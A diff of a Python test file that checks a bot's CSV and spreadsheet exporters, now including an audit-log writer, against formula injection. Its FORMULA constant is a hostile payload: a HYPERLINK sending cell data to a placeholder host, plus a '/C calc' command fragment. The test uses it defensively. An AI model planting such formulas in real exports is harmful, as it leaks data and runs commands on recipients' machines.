@@ -3,6 +3,7 @@
 import csv
 import re
 import zipfile
+from dataclasses import replace
 from datetime import date
 from io import BytesIO, StringIO
 from pathlib import Path
@@ -14,28 +15,32 @@ from hypothesis import strategies as st
 from sqlalchemy import select
 from sqlalchemy.orm import Session
 
+from bot.features.audit.lines import as_csv
 from bot.features.events.signing import Sheet, write_sheet
 from bot.features.members.columns import PersonRow
 from bot.features.members.importing import Fate, MembersPlan, Planned
 from bot.features.members.importing import Sheet as CodeSheet
 from bot.features.members.invitations import Handout, write_csv, write_xlsx
+from bot.region import Region
 from bot.tables import harmless
 from bot.texts import texts_for
 from bot.texts.clean import clean, file_name
+from storage.audit import Line
 from storage.database import Database
 from storage.events import Event
 from storage.libraries import Library, Municipality
 from storage.vocabulary import VocabularyEntry
 from tests.examples import examples
-from tests.features.reports.conftest import exported_from
+from tests.features.reports.conftest import NOW, exported_from
 from tests.features.reports.held import add_event, add_member
 from tests.features.reports.region import add_libraries, add_record
+from tests.journeys.world import RIGA
 
 BOT = Path(__file__).parents[2] / "bot"
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
 FORMULA = 'HYPERLINK("http://a.example.lv/?"&A1;"x")|\' /C calc\'!A0'
 WRITERS = {"features/events/signing.py", "features/members/invitations.py", "features/reports/records.py"}
-WRITERS |= {"features/reports/workbook.py"}
+WRITERS |= {"features/reports/workbook.py", "features/audit/lines.py"}
 
 
 def test_every_way_out_is_tried_here() -> None:
@@ -97,9 +102,14 @@ def test_reports(database: Database) -> None:
     for chosen, formulas in ours.items():
         assert formulas_of(export(chosen)) == formulas
     assert any(FORMULA in cell for cell in cells_of(export("csv")))
+    library, region = Line(1, NOW, None, "rename", "library", 1, {"before": f"={FORMULA}"}), Region("R", RIGA, "lv")
     for trigger in TRIGGERS[1:7:2]:
         call_everything(trigger)
-        assert not [cell for cell in cells_of(export("csv")) if cell.startswith(TRIGGERS)], trigger
+        with database.read() as session:
+            journal = as_csv(session, [library, replace(library, action=f"{trigger}x")], region, texts_for("lv"))
+        for content in (export("csv"), journal):
+            assert not [cell for cell in cells_of(content) if cell.startswith(TRIGGERS)], trigger
+            assert FORMULA in content.decode().replace('""', '"')
 
 
 TEXTS = st.tuples(st.sampled_from([*TRIGGERS, "", "'", " ", "\0"]), st.text(max_size=40)).map("".join)
